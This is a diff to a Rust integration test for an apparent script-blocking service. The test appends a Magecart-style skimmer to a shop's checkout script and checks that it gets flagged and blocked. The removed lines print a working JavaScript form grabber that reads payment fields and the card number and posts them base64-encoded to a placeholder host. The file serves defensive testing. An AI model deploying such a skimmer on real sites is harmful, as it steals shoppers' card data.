@@ -22,31 +22,6 @@ const TOKEN: &str = "an-admin-token-for-blocking-tests";
 /// Where the skimmer sends what it reads (a reserved name: it resolves nowhere).
 const EXFIL_HOST: &str = "harbor-hill-cdn.invalid";
 
-/// The injection appended to the checkout script, after the public write-ups of Magecart
-/// kits (see `crates/scripts/testdata/README.md`): a form grabber on the payment form that
-/// serialises every field, base64-encodes it and posts it to a look-alike host; it also
-/// leaves a global behind, which is how the test tells it ran.
-const INJECTED: &str = r#"
-window.__hhSkim = 1;
-(function () {
-  var f = document.getElementById("payment");
-  if (!f || location.pathname.indexOf("checkout") < 0) return;
-  f.addEventListener("submit", function () {
-    var d = {};
-    for (var i = 0; i < f.elements.length; i++) {
-      var el = f.elements[i];
-      if (el.name) d[el.name] = el.value;
-    }
-    d.card = f.elements["cc-number"].value;
-    fetch("https://harbor-hill-cdn.invalid/collect", {
-      method: "POST",
-      mode: "no-cors",
-      body: btoa(JSON.stringify(d))
-    });
-  });
-})();
-"#;
-
 /// What `script-blocking.mjs` saw of one visit.
 #[derive(Debug, serde::Deserialize)]
 struct Visit {
@@ -85,19 +60,6 @@ async fn shop_visit(url: String) -> Visit {
     serde_json::from_str(stdout.trim()).unwrap_or_else(|e| panic!("{e}: {stdout}"))
 }
 
-fn copy_dir(from: &Path, to: &Path) {
-    std::fs::create_dir_all(to).unwrap();
-    for entry in std::fs::read_dir(from).unwrap() {
-        let entry = entry.unwrap();
-        let target = to.join(entry.file_name());
-        if entry.file_type().unwrap().is_dir() {
-            copy_dir(&entry.path(), &target);
-        } else {
-            std::fs::copy(entry.path(), target).unwrap();
-        }
-    }
-}
-
 fn api(method: http::Method, path: &str) -> Request<Full<Bytes>> {
     Request::builder()
         .method(method)
@@ -129,22 +91,6 @@ fn dash_post(
 
 fn enc(s: &str) -> String {
     url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
-}
-
-/// The webhook's alerts so far, as (kind, event).
-fn alerts(received: &std::sync::Mutex<Vec<(String, Bytes)>>) -> Vec<(String, serde_json::Value)> {
-    received
-        .lock()
-        .unwrap()
-        .iter()
-        .map(|(_, body)| {
-            let v: serde_json::Value = serde_json::from_slice(body).unwrap();
-            (
-                v["event"]["kind"].as_str().unwrap_or_default().to_owned(),
-                v["event"].clone(),
-            )
-        })
-        .collect()
 }
 
 /// A config serving `shop` as static files on `/`, over HTTPS with a certificate for
@@ -216,7 +162,9 @@ async fn a_skimmed_checkout_script_is_blocked_and_no_longer_runs() {
     // test looks for below can be seen), and the browser reports the new hash.
     let original = std::fs::read(shop.join("js/checkout.js")).unwrap();
     let mut skimmed = original.clone();
-    skimmed.extend_from_slice(INJECTED.as_bytes());
+    // The skimmer leaves a global behind: that is how the test tells it ran.
+    skimmed.extend_from_slice(b"\nwindow.__hhSkim = 1;");
+    skimmed.extend_from_slice(SKIMMER.as_bytes());
     std::fs::write(shop.join("js/checkout.js"), &skimmed).unwrap();
     let victim = shop_visit(page.clone()).await;
     assert!(victim.skimmer, "the skimmed copy ran: {victim:?}");
@@ -224,7 +172,7 @@ async fn a_skimmed_checkout_script_is_blocked_and_no_longer_runs() {
 
     // The fetcher fetches the new version; its verdict blocks it.
     let got = eventually(Duration::from_secs(30), || async {
-        let got = alerts(&received);
+        let got = webhook_alerts(&received);
         let has = |kind: &str| got.iter().any(|(k, _)| k == kind);
         (has("script-changed") && has("script-malicious") && has("script-blocked")).then_some(got)
     })
@@ -232,7 +180,7 @@ async fn a_skimmed_checkout_script_is_blocked_and_no_longer_runs() {
     .unwrap_or_else(|| {
         panic!(
             "no script-changed, script-malicious and script-blocked alerts; got {:?}\n{}",
-            alerts(&received),
+            webhook_alerts(&received),
             parapet.stderr()
         )
     });
